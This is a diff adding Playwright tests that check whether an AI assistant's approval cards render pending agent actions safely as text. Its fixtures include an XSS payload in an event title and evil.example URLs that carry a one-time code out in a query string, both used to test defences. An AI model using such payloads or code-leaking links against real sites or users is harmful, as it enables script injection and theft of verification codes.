@@ -125,3 +125,55 @@ def test_the_page_links_only_pepper_and_provider_targets(page: Page) -> None:
     assert "the bank (https://evil.example/a?b=1&c=2)" in rendered["text"]
     assert rendered["evil"] == ["SPAN", "Link (not opened): https://evil.example/x?d=secret"]
     assert rendered["own"] == ["A", "Open"] and rendered["gmail"] == ["A", "Open"]
+
+
+CARDS = {
+    "labels": {"preview": {"kind": "labels", "action": "modify_labels", "message_id": "m1",
+                           "labels_added": ["TRASH"], "labels_removed": ["INBOX"]},
+               "arguments": {"id": "m1", "add": ["TRASH"], "remove": ["INBOX"]}},
+    "event": {"preview": {"kind": "event", "action": "create_event", "title": "Sync <img src=x onerror=\"window.__pwned=1\">",
+                          "start": "2026-12-07T15:00:00+00:00", "attendees": ["eve@evil.example"], "response": "declined"},
+              "arguments": {"draft": {"title": "Sync", "attendees": ["eve@evil.example"]}}},
+    "notification": {"preview": {"kind": "notification", "action": "notify", "subject": "Your code",
+                                 "body_excerpt": "Code 123456", "links": ["https://evil.example/?c=123456"]},
+                     "arguments": {"title": "Your code"}},
+    "call": {"server": "web", "tool": "fetch", "preview": {"kind": "call", "action": "web.fetch", "body_excerpt": "{}"},
+             "arguments": {"url": "https://evil.example/?c=1", "options": {"method": "GET", "retries": 2}}},
+}  # fmt: skip
+EXPECTED = {
+    "labels": ["Adds labelsTRASH", "Removes labelsINBOX"],
+    "event": [
+        'EventSync <img src=x onerror="window.__pwned=1">',
+        "Attendeeseve@evil.example",
+        "Answerdeclined",
+    ],
+    "notification": ["TitleYour code", "Linkshttps://evil.example/?c=123456", "TextCode 123456"],
+    "call": ["Callsweb.fetch with", "urlhttps://evil.example/?c=1", "optionsmethod: GET; retries: 2"],
+}
+
+
+@pytest.mark.parametrize("kind", sorted(CARDS))
+def test_every_kind_of_card_reads_as_words_with_its_warnings(page: Page, kind: str) -> None:
+    expect(page.locator("#live")).to_have_text("live")
+    action = {"id": "a1", "server": "x", "tool": "y", "status": "pending", "verification": "unverified",
+              "digest": "0" * 64, "count": 1, "reason": "changes labels", "requested_by": "worker:stateless",
+              "provenance": {"requested_by": "worker:stateless", "worker": "worker:stateless",
+                             "task": "Tidy the inbox", "model_reason": "", "sources": []},
+              "origin_known_sender": None, "expires_at": "2026-12-07T16:00:00+00:00",
+              "created_at": "2026-12-05T09:00:00+00:00", **CARDS[kind]}  # fmt: skip
+    shown = page.evaluate(
+        """(action) => {
+            const card = approvalCard(action);
+            const fields = card.querySelector(".approval-fields:not(.editing)");
+            return {text: card.textContent, rows: [...fields.querySelectorAll("dt")].map(
+                        (dt) => dt.textContent + dt.nextElementSibling.textContent),
+                    tags: card.querySelectorAll("img, a, script").length};
+        }""",
+        action,
+    )
+    for row in EXPECTED[kind]:
+        assert row in shown["rows"], f"{row!r} not in {shown['rows']}"
+    assert "Unverified: Pepper did not sign this record" in shown["text"]
+    assert "A worker (task: “Tidy the inbox”)" in shown["text"] and "expires at" in shown["text"]
+    assert '{"' not in shown["text"] and shown["tags"] == 0
+    assert page.evaluate("window.__pwned") is None
